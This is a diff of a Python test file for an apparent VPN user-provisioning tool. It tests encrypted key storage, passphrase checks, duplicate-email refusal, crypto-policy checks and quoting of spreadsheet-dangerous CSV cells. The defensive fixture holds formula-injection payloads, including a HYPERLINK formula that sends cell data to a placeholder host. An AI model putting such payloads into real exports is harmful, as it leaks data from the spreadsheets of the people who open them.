@@ -5,17 +5,20 @@ from __future__ import annotations
 import csv
 import json
 import os
+import pickle
 import plistlib
+import shutil
 import stat
 from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
+from conftest import OLD_PASSPHRASE, clear_keys_under, make_older_pki
 from cryptography import x509
 from cryptography.hazmat.primitives.serialization import pkcs12
 
-from svpn import bench_users, fsutil, pki, proposals, users
+from svpn import bench_users, fsutil, keystore, pki, proposals, users
 from svpn.errors import SvpnError
 
 PASS = "correct horse battery"
@@ -378,6 +381,85 @@ def test_bulk_writes_skip_fsync_and_sync_once_before_anything_records_them(
     assert events[: events.index("sync")] == []
 
 
+# --------------------------------------------------------------------------- keys at rest
+
+
+def test_no_user_key_lies_in_clear_and_a_run_derives_the_kek_once(
+    env: Env, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    derived: list[int] = []
+    real_derive = keystore.ScryptParams.derive
+
+    def counting(self: keystore.ScryptParams, *args: object, **kwargs: object) -> bytes:
+        derived.append(self.n)
+        return real_derive(self, *args, **kwargs)  # type: ignore[arg-type]
+
+    monkeypatch.setattr(keystore.ScryptParams, "derive", counting)
+    env.sync(STAFF)
+    assert derived == [keystore.CA_KDF.n]  # the KEK, once for every user (the CA key: cryptography's loader)
+    assert clear_keys_under(env.pki) == []
+    assert sorted(p.name for p in (env.pki / "users").glob("*.key*")) == [
+        "jkim.key.enc",
+        "mlee.key.enc",
+        "spark.key.enc",
+    ]
+    ca = pki.load_ca(env.pki, PASS)
+    args = users._worker_args(pki.PkiDir(env.pki), ca, ca.user_kek(), None)
+    assert ca.user_kek() in args and PASS.encode() not in pickle.dumps(args)  # the KEK, not the passphrase
+
+
+def test_the_worker_processes_seal_and_open_keys_with_the_kek(
+    env: Env, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(users, "INLINE_BELOW", 2)
+    monkeypatch.setattr(users, "CHUNK", 2)
+    rows = [(f"u{n}", f"User {n}", f"u{n}@city.example.kr", "IT") for n in range(5)]
+    env.sync(rows, workers=2)
+    shutil.rmtree(env.bundles / "u1")
+    shutil.rmtree(env.bundles / "u3")
+    result = env.sync(rows, workers=2)  # new PKCS#12 files: the workers open the sealed keys
+    assert sorted(b.id for b in result.bundle_changes) == ["u1", "u3"]
+    assert clear_keys_under(env.pki) == []
+    kek = pki.load_ca(env.pki, PASS).user_kek()
+    for uid in ("u1", "u3"):
+        password = env.passwords_by_id()[uid]["password"].encode()
+        key, _cert, _more = pkcs12.load_key_and_certificates(p12_of(env, uid), password)
+        assert key is not None and key.public_key() == pki.read_user_key(env.pki, kek, uid).public_key()
+
+
+def test_an_older_pki_keeps_working_and_its_clear_keys_are_sealed_on_the_next_write(
+    env: Env, run: Run, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    env.sync(STAFF)
+    make_older_pki(env.pki, PASS)
+    assert len(clear_keys_under(env.pki)) == 3
+    monkeypatch.setenv("SVPN_CA_PASSPHRASE", OLD_PASSPHRASE)
+    shutil.rmtree(env.bundles / "mlee")
+    code, out, err = run(*env.sync_argv(env.roster(STAFF), "--passwords", str(env.passwords)))
+    assert (code, err) == (0, ""), err
+    assert "1 bundles built" in out
+    assert clear_keys_under(env.pki) == []
+    assert keystore.kdf_info((env.pki / "ca" / "ca.key").read_bytes()).current()
+    kek = pki.load_ca(env.pki, OLD_PASSPHRASE).user_kek()
+    password = env.passwords_by_id()["mlee"]["password"].encode()
+    key, _cert, _more = pkcs12.load_key_and_certificates(p12_of(env, "mlee"), password)
+    assert key is not None and key.public_key() == pki.read_user_key(env.pki, kek, "mlee").public_key()
+
+
+def test_profiles_build_works_on_an_older_pki_and_seals_its_keys(
+    env: Env, run: Run, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    env.sync(STAFF)
+    make_older_pki(env.pki, PASS)
+    monkeypatch.setenv("SVPN_CA_PASSPHRASE", OLD_PASSPHRASE)
+    code, out, err = run("profiles", "build", "jkim", "--bundles", env.bundles, "--passwords", env.passwords,
+                         "--dir", env.pki, "--inventory", env.inventory)  # fmt: skip
+    assert (code, err) == (0, "")
+    assert out.strip() == f"built: {env.bundles / 'jkim'} (password in {env.passwords})"
+    assert clear_keys_under(env.pki) == []
+    assert (env.pki / "ca" / "kek.json").exists()
+
+
 # --------------------------------------------------------------------------- refusals
 
 
@@ -496,20 +578,25 @@ def test_cli_sync_prints_the_diff_and_json(env: Env, run: Run) -> None:
 def test_profiles_build_makes_a_new_bundle_with_a_new_password(env: Env, run: Run, monkeypatch) -> None:
     env.sync(STAFF[:1])
     old = env.passwords_by_id()["jkim"]["password"]
-    monkeypatch.delenv("SVPN_CA_PASSPHRASE", raising=False)
-    code, out, err = run(
-        "profiles",
-        "build",
-        "jkim",
-        "--bundles",
-        env.bundles,
-        "--passwords",
-        env.passwords,
-        "--dir",
-        env.pki,
-        "--inventory",
-        env.inventory,
+    argv = ["profiles", "build", "jkim", "--bundles", env.bundles, "--passwords", env.passwords,
+            "--dir", env.pki, "--inventory", env.inventory]  # fmt: skip
+    before = snapshot(env.root)
+    monkeypatch.delenv("SVPN_CA_PASSPHRASE", raising=False)  # the user's key is sealed: it is needed
+    code, out, err = run(*argv)
+    assert (code, out) == (2, "")
+    assert err.strip() == (
+        "svpn: error: CA passphrase is missing: set SVPN_CA_PASSPHRASE or pass --passphrase-file FILE"
     )
+    monkeypatch.setenv("SVPN_CA_PASSPHRASE", "not the passphrase")
+    code, out, err = run(*argv)
+    assert (code, out, err.strip()) == (
+        2,
+        "",
+        f"svpn: error: CA passphrase is wrong for {env.pki / 'ca' / 'kek.json'}",
+    )
+    assert snapshot(env.root) == before
+    monkeypatch.setenv("SVPN_CA_PASSPHRASE", PASS)
+    code, out, err = run(*argv)
     assert (code, err) == (0, "")
     assert out.strip() == f"built: {env.bundles / 'jkim'} (password in {env.passwords})"
     new = env.passwords_by_id()["jkim"]["password"]
@@ -553,3 +640,153 @@ def test_bench_without_pki_says_so(env: Env, monkeypatch: pytest.MonkeyPatch) ->
     result = bench_users.run(users=2, sample=1, inventory=env.inventory)
     assert result.pki_sample_s is None and result.ratio(result.bundles_s) is None
     assert any("not installed" in line for line in result.table())
+
+
+# --------------------------------------------------------------------------- shared identities
+
+
+def test_an_email_another_listed_id_still_holds_is_refused_and_nothing_changes(env: Env) -> None:
+    env.sync(STAFF)
+    before = snapshot(env.pki, env.bundles, env.passwords)
+    # jkim is re-added as jkim2 with the old address while jkim stays (with a new one): jkim's
+    # certificate still carries the old address, so it is refused
+    moved = [("jkim", "김지우", "jkim.old@city.example.kr", "IT"), *STAFF[1:]]
+    with pytest.raises(SvpnError) as err:
+        env.sync([*moved, ("jkim2", "Kim Jiwoo", "JKim@city.example.kr", "IT")])
+    assert (
+        f"{env.root / 'staff.csv'}:5: email 'JKim@city.example.kr' (id 'jkim2') belongs to id 'jkim'"
+        in str(err.value)
+    )
+    assert "which line 2 keeps (as 'jkim.old@city.example.kr')" in str(err.value)
+    assert snapshot(env.pki, env.bundles, env.passwords) == before
+    # the same address is free once the old ID leaves the roster: this very sync revokes it
+    result = env.sync([*STAFF[1:], ("jkim2", "Kim Jiwoo", "JKim@city.example.kr", "IT")])
+    assert {(c.id, c.action) for c in result.changes if c.action != "unchanged"} == {
+        ("jkim2", "add"),
+        ("jkim", "revoke"),
+    }
+    assert env.current("jkim")["status"] == "revoked" and env.current("jkim2")["status"] == "valid"
+
+
+# --------------------------------------------------------------------------- passwords.csv in a spreadsheet
+
+
+def runs_in_a_spreadsheet(cell: str) -> bool:
+    return cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") or cell.lstrip()[:1] in ("=", "+", "-", "@")
+
+
+NASTY: list[Row] = [
+    ("u1", '=HYPERLINK("http://x.example/?"&A1,"Click")', "u1@city.example.kr", "IT"),
+    ("u2", "+1 call me", "+u2@city.example.kr", "IT"),
+    ("u3", "-2+3", "-u3@city.example.kr", "IT"),
+    ("u4", "@SUM(A1:A9)", "u4@city.example.kr", "IT"),
+    ("u5", "'=already quoted", "=u5@city.example.kr", "IT"),
+    ("u6", "'Ilima Kealoha", "u6@city.example.kr", "IT"),
+    ("u7", "Park = Seo", "u7@city.example.kr", "IT"),
+]
+
+
+def test_passwords_csv_cells_a_spreadsheet_would_run_are_quoted_and_read_back(env: Env) -> None:
+    path = env.root / "nasty.csv"
+    with path.open("w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle).writerows([("id", "name", "email", "department"), *NASTY])
+    users.sync(env.options(path), lambda: PASS)
+
+    with env.passwords.open(encoding="utf-8", newline="") as handle:
+        cells = list(csv.reader(handle))
+    assert cells[0] == list(users.PASSWORD_COLUMNS)
+    assert [cell for row in cells for cell in row if runs_in_a_spreadsheet(cell)] == []
+    written = {row[0]: (row[1], row[2]) for row in cells[1:]}
+    assert written == {
+        "u1": ("'" + NASTY[0][1], "u1@city.example.kr"),
+        "u2": ("'+1 call me", "'+u2@city.example.kr"),
+        "u3": ("'-2+3", "'-u3@city.example.kr"),
+        "u4": ("'@SUM(A1:A9)", "u4@city.example.kr"),
+        "u5": ("''=already quoted", "'=u5@city.example.kr"),
+        "u6": ("'Ilima Kealoha", "u6@city.example.kr"),  # harmless: as it is
+        "u7": ("Park = Seo", "u7@city.example.kr"),
+    }
+    loaded = users.PasswordFile.load(env.passwords).rows
+    assert {uid: (row["name"], row["email"]) for uid, row in loaded.items()} == {
+        r[0]: (r[1], r[2]) for r in NASTY
+    }
+
+    before = snapshot(env.pki, env.bundles, env.passwords)
+    assert users.sync(env.options(path), lambda: PASS).summary()["unchanged"] == len(NASTY)
+    assert snapshot(env.pki, env.bundles, env.passwords) == before  # read back exactly: nothing rewritten
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["=1+1", "+1", "-1", "@x", "\t=1", "\t", "\nx", " =1", "\u3000@x", "  -", "'=1", "''+1", "'",
+     "''", "'Ilima", "a=b", "", "plain", "1-2", "'\t"],
+)  # fmt: skip
+def test_every_cell_round_trips_through_a_real_csv_file(tmp_path: Path, value: str) -> None:
+    path = tmp_path / "passwords.csv"
+    out = users.PasswordFile(path)
+    row = dict.fromkeys(users.PASSWORD_COLUMNS, value)
+    out.set({**row, "id": "u1"})
+    out.save()
+    with path.open(encoding="utf-8", newline="") as handle:
+        cells = list(csv.reader(handle))[1]
+    assert not any(runs_in_a_spreadsheet(cell) for cell in cells), cells
+    assert cells[1] == ("'" + value if runs_in_a_spreadsheet(value.lstrip("'")) else value)
+    assert users.PasswordFile.load(path).rows["u1"] == {**row, "id": "u1"}
+
+
+def test_a_leading_carriage_return_is_neutralised_too() -> None:
+    # (not through a file: the writer's "\n" line ending leaves a bare CR unquoted, and no cell can hold
+    # one: names and e-mail addresses are validated, the other columns generated)
+    for value in ("\r", "\r=1", " \r@x"):
+        assert users.csv_cell(value) == "'" + value and users.csv_value("'" + value) == value
+
+
+def test_an_older_passwords_file_with_raw_values_loads_as_it_is(tmp_path: Path) -> None:
+    path = tmp_path / "passwords.csv"
+    path.write_text("id,name,email,password,serial,created\nu1,=1+1,a@x.example,pw,ab,2030-01-01T00:00:00Z\n")
+    loaded = users.PasswordFile.load(path)
+    assert loaded.rows["u1"]["name"] == "=1+1" and not loaded.dirty
+
+
+@pytest.mark.parametrize(
+    ("change", "needle"),
+    [
+        (
+            ("[aes256gcm16-ecp384, aes128gcm16-ecp256]", "[aes256gcm16-ecp384, 3des-sha1]"),
+            "svpn_esp_proposals: ESP proposal '3des-sha1' is refused by the crypto policy: 3des: 3DES",
+        ),
+        (
+            ("[aes256gcm16-ecp384, aes128gcm16-ecp256]", "[aes256gcm16-ecp384, aes128gcm16]"),
+            "svpn_esp_proposals: ESP proposal 'aes128gcm16' has no DH group",
+        ),
+    ],
+)
+def test_sync_and_profiles_build_refuse_a_weak_farm_before_anything_changes(
+    env: Env, run: Run, change: tuple[str, str], needle: str
+) -> None:
+    env.sync(STAFF[:1])
+    all_yml = env.inventory / "group_vars" / "all.yml"
+    all_yml.write_text(ALL_YML.replace(*change))
+    before = snapshot(env.pki, env.bundles, env.passwords)
+    code, _out, err = run(*env.sync_argv(env.roster(STAFF)))
+    assert code == 2 and needle in err and "Traceback" not in err and err.count("\n") == 1
+    code, _out, err = run(
+        "profiles", "build", "jkim", "--bundles", env.bundles, "--dir", env.pki, "--inventory", env.inventory
+    )
+    assert code == 2 and needle in err and "Traceback" not in err
+    assert snapshot(env.pki, env.bundles, env.passwords) == before  # no certificate, bundle or password
+    # a legacy farm that opts out of PFS builds (the allowlist still holds)
+    if "no DH group" in needle:
+        all_yml.write_text(ALL_YML.replace(*change) + "svpn_esp_pfs_optional: true\n")
+        assert run(*env.sync_argv(env.roster(STAFF)))[0] == 0
+
+
+def test_the_cli_says_that_a_sync_alone_ends_no_session(env: Env, run: Run) -> None:
+    """Offboarding by `svpn users sync` alone changes the PKI only: the CLI names the command that ends the
+    revoked users' sessions (or the playbook that does both), and says nothing when nobody was revoked."""
+    code, _, err = run(*env.sync_argv(env.roster(STAFF)))
+    assert code == 0 and "end-sessions.yml" not in err
+    code, _, err = run(*env.sync_argv(env.roster(STAFF[:-1])))
+    assert code == 0
+    gone = STAFF[-1][0]
+    assert f"-e users={gone}" in err and "playbooks/end-sessions.yml" in err and "sync-users.yml" in err
